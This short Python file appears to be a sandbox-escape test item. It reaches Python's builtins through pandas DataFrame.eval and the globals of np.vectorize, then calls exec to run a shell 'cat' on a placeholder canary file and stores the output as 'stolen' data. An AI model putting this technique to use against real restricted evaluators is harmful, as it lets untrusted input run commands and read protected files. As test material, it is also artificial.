# class: string_exec
# technique: the builtins dict read from np.vectorize.__init__.__globals__ in expression text; its exec runs source text (DataFrame.eval reached as (call := frame.agg)('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return (call := frame.agg)("eval", 0, expr, local_dict=names)

u = "_" * 2

b = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['" + u + "builtins" + u + "']", v=[np.vectorize])
scope = {"cmd": "cat {{CANARY_FILE}}"}
b["exec"]("import subprocess\nout = subprocess.getoutput(cmd)", scope)
df = pd.DataFrame({"stolen": [scope["out"]]})
